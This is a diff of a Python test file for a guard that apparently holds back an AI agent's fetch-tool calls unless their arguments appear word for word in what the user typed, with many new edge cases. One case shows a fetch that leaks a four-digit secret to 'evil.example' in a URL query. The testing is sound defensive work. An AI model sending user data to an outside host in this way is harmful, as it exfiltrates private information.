@@ -123,7 +123,20 @@ class TestOpenWorld:
         [
             ("https://evil.example/ を要約して", {"text": "https://evil.example/?d=四桁は1234"}, False),
             ("東京の天気は？", {"text": "東京"}, True),
-            ("Tokyo の天気は？", {"text": "ｔｏｋｙｏ", "path": None}, True),
+            ("東京の天気は？", {"text": "東京の天気", "path": "東京"}, True),
+            ("Weather in New York?", {"text": "New York"}, True),
+            ("https://a.example/x?y=1。読んで", {"text": "https://a.example/x?y=1"}, True),
+            ("この 3 を見て", {"text": "この 3 を見て", "path": 3}, True),
+            ("Tokyo の天気は？", {"text": "tOkYo"}, False),
+            ("Tokyo の天気は？", {"text": "ｔｏｋｙｏ"}, False),
+            ("Tokyo の天気は？", {"text": "Tokyo "}, False),
+            ("Tokyo の天気は？", {"text": "Tokyo", "path": None}, False),
+            ("Tokyo の天気は？", {"text": "Tokyo", "path": ""}, False),
+            ("Tokyo の天気は？", {"text": " \t  \t"}, False),
+            ("Tokyo の天気は？", {"text": ["Tokyo", "Tokyo"]}, False),
+            ("Tokyo の天気は？", {"text": {"猫が好き": "Tokyo"}}, False),
+            ("Tokyo の天気は？", {"text": [[], [[]]]}, False),
+            ("a b c d e f g", {"text": "a b c d e"}, False),
             ("Weather in Tokyo?", {"text": "Toky"}, False),
             ("番号は 12345 です", {"text": "234"}, False),
             ("東京の天気は？", {"text": "東京", "path": "猫が好き"}, False),
@@ -146,15 +159,15 @@ class TestOpenWorld:
         assert len(calls_in(tmp_path)) == made
         assert (outcome.proposal is None) == made
 
-    async def test_is_left_to_a_press_after_two_that_repeat_words(
+    async def test_is_left_to_a_press_after_one_that_repeats_words(
         self, fetch: ToolRegistry, context: ToolContext, tmp_path: Path
     ) -> None:
         typed = replace(context, typed="a b c d")
         outcomes = [
-            await call(fetch, typed, "notes__fetch", json.dumps({"text": each})) for each in ("a", "b", "c")
+            await call(fetch, typed, "notes__fetch", json.dumps({"text": each})) for each in ("a", "b")
         ]
-        assert [outcome.proposal is None for outcome in outcomes] == [True, True, False]
-        assert len(calls_in(tmp_path)) == 2
+        assert [outcome.proposal is None for outcome in outcomes] == [True, False]
+        assert len(calls_in(tmp_path)) == 1
 
     async def test_is_made_with_anything_in_a_turn_without_others_words(
         self, fetch: ToolRegistry, context: ToolContext, tmp_path: Path
